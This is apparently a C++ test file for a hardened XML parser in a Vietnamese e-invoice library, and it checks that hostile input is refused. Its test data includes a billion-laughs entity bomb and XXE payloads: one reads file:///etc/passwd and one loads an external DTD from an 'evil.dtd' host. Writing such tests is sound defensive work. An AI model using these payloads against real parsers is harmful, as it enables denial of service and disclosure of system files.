// The safe XML core: limits, attacks and malformed input each get one located diagnostic.
#include <doctest/doctest.h>
#include <fcntl.h>
#include <unistd.h>

#include <functional>
#include <random>
#include <string>

#include "support/support.hpp"
#include "xml/document.hpp"
#include "xml/node.hpp"

using hoadon::Code;
using hoadon::Report;
namespace xml = hoadon::xml;

namespace {

struct Parsed {
  std::unique_ptr<xml::Document> doc;
  Report report;
};

Parsed parse(std::string bytes, xml::Limits limits = {}) {
  Parsed p;
  p.doc = xml::parse(std::move(bytes), limits, p.report);
  return p;
}

// The single diagnostic of a rejected parse (a copy: callers pass temporaries).
hoadon::Diagnostic only_diagnostic(const Parsed& p) {
  REQUIRE(p.doc == nullptr);
  REQUIRE(p.report.items().size() == 1);
  return p.report.items().front();
}

std::string nested(std::size_t depth) {
  std::string s;
  for (std::size_t i = 0; i < depth; ++i) s += "<a>";
  for (std::size_t i = 0; i < depth; ++i) s += "</a>";
  return s;
}

// The classic "billion laughs": nine levels of ten-fold entity expansion.
std::string billion_laughs() {
  std::string s = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
  s += " <!ELEMENT lolz (#PCDATA)>\n";
  s += " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n";
  for (int i = 2; i <= 9; ++i) {
    s += " <!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) s += "&lol" + std::to_string(i - 1) + ";";
    s += "\">\n";
  }
  s += "]>\n<lolz>&lol9;</lolz>\n";
  return s;
}

}  // namespace

TEST_CASE("a well-formed document parses and keeps its exact bytes") {
  const std::string in =
      "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<HDon a=\"1\">\n  <X>v&amp;w</X><!-- c --></HDon>\n";
  auto p = parse(in);
  REQUIRE(p.doc);
  CHECK(p.report.items().empty());
  CHECK(p.doc->bytes() == in);
  CHECK(xml::name_of(p.doc->root()) == "HDon");
  CHECK(xml::text(xml::child(p.doc->root(), "X")) == "v&w");
}

TEST_CASE("billion laughs is refused at its DOCTYPE, before any expansion") {
  const auto bomb = billion_laughs();
  CHECK(bomb.size() < 1000);  // under a kilobyte, a billion "lol"s once expanded
  const auto p = parse(bomb);
  const auto& d = only_diagnostic(p);
  CHECK(d.code == Code::XmlDoctype);
  CHECK(d.where.line == 2);
  CHECK(d.message.find("DOCTYPE") != std::string::npos);
  CHECK(d.message_vi.find("Không được phép") != std::string::npos);
}

TEST_CASE("external entities (XXE) and external DTDs are refused") {
  SUBCASE("XXE through the internal subset") {
    const auto p = parse("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
    CHECK(only_diagnostic(p).code == Code::XmlDoctype);
  }
  SUBCASE("external DTD over the network") {
    const auto p = parse("<!DOCTYPE x SYSTEM \"http://203.0.113.1/evil.dtd\"><x/>");
    CHECK(only_diagnostic(p).code == Code::XmlDoctype);
  }
  SUBCASE("parameter entities") {
    const auto p = parse("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://203.0.113.1/p\"> %p;]><x/>");
    CHECK(only_diagnostic(p).code == Code::XmlDoctype);
  }
  SUBCASE("a reference to an undeclared entity") {
    const auto p = parse("<x>\n<y>&nbsp;</y></x>");
    const auto& d = only_diagnostic(p);
    CHECK(d.code == Code::XmlEntity);
    CHECK(d.where.line == 2);
    CHECK(d.where.path == "/x/y");
  }
  SUBCASE("predefined entities and character references are plain text") {
    const auto p = parse("<x>&lt;&#65;&#x42;&quot;</x>");
    REQUIRE(p.doc);
    CHECK(xml::text(p.doc->root()) == "<AB\"");
  }
}

TEST_CASE("depth is limited: 100,000 nested elements are refused at the limit") {
  const auto p = parse(nested(100000));
  const auto& d = only_diagnostic(p);
  CHECK(d.code == Code::XmlDepth);
  CHECK(d.where.line == 1);
  // The path names the element at the limit: 256 steps of /a.
  CHECK(d.where.path.size() == 256 * 2);
  SUBCASE("exactly at the limit is fine, one more is not") {
    CHECK(parse(nested(256)).doc != nullptr);
    CHECK(only_diagnostic(parse(nested(257))).code == Code::XmlDepth);
  }
  SUBCASE("a lower configured limit") {
    xml::Limits l;
    l.max_depth = 3;
    CHECK(parse(nested(3), l).doc != nullptr);
    CHECK(only_diagnostic(parse(nested(4), l)).code == Code::XmlDepth);
  }
}

TEST_CASE("size is limited, and a 1 GiB file is refused without being read") {
  xml::Limits l;
  l.max_bytes = 64;
  const auto p = parse("<x>" + std::string(100, 'a') + "</x>", l);
  CHECK(only_diagnostic(p).code == Code::XmlSize);

  testing::TempDir dir;
  const auto big = dir / "huge.xml";
  {
    const int fd = ::open(big.c_str(), O_CREAT | O_WRONLY | O_TRUNC, 0600);
    REQUIRE(fd >= 0);
    REQUIRE(::ftruncate(fd, off_t{1} << 30) == 0);  // sparse: no disk, no time
    ::close(fd);
  }
  std::string bytes;
  Report r;
  CHECK(xml::read_file(big.string(), xml::Limits{}.max_bytes, bytes, r) == xml::ReadResult::TooLarge);
  CHECK(bytes.empty());
  REQUIRE(r.items().size() == 1);
  CHECK(r.items()[0].code == Code::XmlSize);
  CHECK(r.items()[0].message.find("1073741824") != std::string::npos);
}

TEST_CASE("streams are read only up to the limit") {
  int fds[2];
  REQUIRE(::pipe(fds) == 0);
  const std::string chunk(1000, 'x');
  REQUIRE(::write(fds[1], chunk.data(), chunk.size()) == 1000);
  ::close(fds[1]);
  std::string bytes;
  Report r;
  CHECK(xml::read_fd(fds[0], 100, bytes, r) == xml::ReadResult::TooLarge);
  ::close(fds[0]);
  CHECK(r.has(Code::XmlSize));
}

TEST_CASE("empty, blank and binary input") {
  CHECK(only_diagnostic(parse("")).code == Code::XmlEmpty);
  CHECK(only_diagnostic(parse("  \n\t ")).code == Code::XmlEmpty);
  CHECK(only_diagnostic(parse("\xEF\xBB\xBF")).code == Code::XmlEmpty);
  SUBCASE("random bytes") {
    std::mt19937 rng(42);
    std::string junk(4096, '\0');
    for (auto& c : junk) c = static_cast<char>(rng() & 0xFF);
    const auto& d = only_diagnostic(parse(junk));
    CHECK((d.code == Code::XmlUtf8 || d.code == Code::XmlMalformed));
    CHECK(d.where.line >= 1);
  }
  SUBCASE("control characters in valid UTF-8") {
    const auto& d = only_diagnostic(parse(std::string("\x01\x02\x03\x04", 4)));
    CHECK(d.code == Code::XmlMalformed);
  }
  SUBCASE("NUL bytes") {
    const auto& d = only_diagnostic(parse(std::string("<x>\0</x>", 8)));
    CHECK(d.code == Code::XmlMalformed);
  }
}

TEST_CASE("invalid UTF-8 is located") {
  const auto& d = only_diagnostic(parse("<x>\n<y>ok</y>\n<z>\xC3\x28</z></x>"));
  CHECK(d.code == Code::XmlUtf8);
  CHECK(d.where.line == 3);
  CHECK(d.message.find("0xC3") != std::string::npos);
  CHECK(only_diagnostic(parse("<x>\xED\xA0\x80</x>")).code == Code::XmlUtf8);  // surrogate
  CHECK(only_diagnostic(parse("<x>\xC0\xAF</x>")).code == Code::XmlUtf8);      // overlong '/'
}

TEST_CASE("only UTF-8 is accepted") {
  CHECK(only_diagnostic(parse("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><x/>")).code == Code::XmlEncoding);
  CHECK(only_diagnostic(parse("<?xml version='1.0' encoding='windows-1258'?><x/>")).code == Code::XmlEncoding);
  CHECK(only_diagnostic(parse(std::string("\xFF\xFE<\0x\0/\0>\0", 10))).code == Code::XmlEncoding);
  CHECK(only_diagnostic(parse(std::string("<\0?\0x\0", 6))).code == Code::XmlEncoding);
  CHECK(parse("<?xml version=\"1.0\" encoding=\"UTF-8\"?><x/>").doc);
  CHECK(parse("<?xml version=\"1.0\" encoding=\"utf8\"?><x/>").doc);
  CHECK(parse("<?xml version=\"1.0\"?><x/>").doc);
  const auto& d = only_diagnostic(parse("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><x/>"));
  CHECK(d.message.find("ISO-8859-1") != std::string::npos);
}

TEST_CASE("truncated XML gets a located error") {
  const std::string full = "<HDon>\n  <DLHDon>\n    <TTChung><PBan>2.1.0</PBan></TTChung>\n  </DLHDon>\n</HDon>\n";
  for (std::size_t cut : {std::size_t{10}, std::size_t{30}, full.size() - 9}) {
    CAPTURE(cut);
    const auto& d = only_diagnostic(parse(full.substr(0, cut)));
    CHECK(d.code == Code::XmlMalformed);
    CHECK(d.where.line >= 1);
    CHECK(d.where.path.rfind("/HDon", 0) == 0);
  }
}

TEST_CASE("namespace errors are refused") {
  const auto& d = only_diagnostic(parse("<x><inv:y/></x>"));
  CHECK(d.code == Code::XmlNamespace);
}

TEST_CASE("content after the root element is refused") {
  CHECK(only_diagnostic(parse("<x/><y/>")).code == Code::XmlMalformed);
}

TEST_CASE("element spans point at the exact bytes of each element") {
  const std::string in =
      "\xEF\xBB\xBF<?xml version=\"1.0\"?>\n<HDon xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">"
      "<DLHDon Id=\"a&gt;b\"><Ten>Hợp tác xã</Ten><Fax/><Fax /></DLHDon>\n<DSCKS><NBan></NBan></DSCKS></HDon>";
  auto p = parse(in);
  REQUIRE(p.doc);
  const auto text_of = [&](const xmlNode* n) {
    const auto* s = p.doc->span(n);
    REQUIRE(s);
    return std::string(p.doc->bytes().substr(s->begin, s->end - s->begin));
  };
  xmlNode* dl = xml::child(p.doc->root(), "DLHDon");
  CHECK(text_of(xml::child(dl, "Ten")) == "<Ten>Hợp tác xã</Ten>");
  const auto faxes = xml::children(dl, "Fax");
  REQUIRE(faxes.size() == 2);
  CHECK(text_of(faxes[0]) == "<Fax/>");
  CHECK(text_of(faxes[1]) == "<Fax />");
  CHECK(text_of(xml::child_path(p.doc->root(), {"DSCKS", "NBan"})) == "<NBan></NBan>");
  const auto* s = p.doc->span(dl);
  CHECK(p.doc->bytes().substr(s->begin, s->start_tag_end - s->begin) == "<DLHDon Id=\"a&gt;b\">");
  CHECK(text_of(p.doc->root()).ends_with("</HDon>"));
  CHECK(p.doc->line(xml::child(p.doc->root(), "DSCKS")) == 3);
}

TEST_CASE("spans of every element of every real sample") {
  const auto dir = testing::samples_dir();
  SKIP_UNLESS(dir, "../shared/vn-invoice-samples is absent");
  for (const auto& s : testing::manifest()) {
    CAPTURE(s.file);
    auto p = parse(testing::read_file(s.path));
    REQUIRE(p.doc);
    std::size_t checked = 0;
    std::function<void(xmlNode*)> walk = [&](xmlNode* n) {
      for (xmlNode* c = xml::first_child_element(n); c; c = xml::next_element(c)) {
        const auto* sp = p.doc->span(c);
        REQUIRE(sp);
        const auto b = p.doc->bytes();
        CHECK(b[sp->begin] == '<');
        CHECK(b.substr(sp->begin + 1).find(xml::name_of(c)) != std::string_view::npos);
        CHECK(b[sp->start_tag_end - 1] == '>');
        CHECK(b[sp->end - 1] == '>');
        CHECK(sp->end >= sp->start_tag_end);
        ++checked;
        walk(c);
      }
    };
    walk(reinterpret_cast<xmlNode*>(p.doc->tree()));
    CHECK(checked > 10);
  }
}

TEST_CASE("xpath of namespaced and repeated elements") {
  auto p = parse(
      "<HDon><DSCKS><NBan><Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo/></Signature></NBan>"
      "</DSCKS><L><I/><I/><J xmlns=\"urn:x\"/></L></HDon>");
  REQUIRE(p.doc);
  xmlNode* sig = xml::first_child_element(xml::child_path(p.doc->root(), {"DSCKS", "NBan"}));
  CHECK(xml::xpath(sig) == "/HDon/DSCKS/NBan/ds:Signature");
  CHECK(xml::xpath(xml::first_child_element(sig)) == "/HDon/DSCKS/NBan/ds:Signature/ds:SignedInfo");
  const auto items = xml::children(xml::child(p.doc->root(), "L"), "I");
  CHECK(xml::xpath(items[1]) == "/HDon/L/I[2]");
  xmlNode* j = xml::next_element(items[1]);
  CHECK(xml::xpath(j) == "/HDon/L/*[local-name()='J']");
  CHECK(xml::child(xml::child(p.doc->root(), "L"), "J") == nullptr);  // namespaced: not plain
}
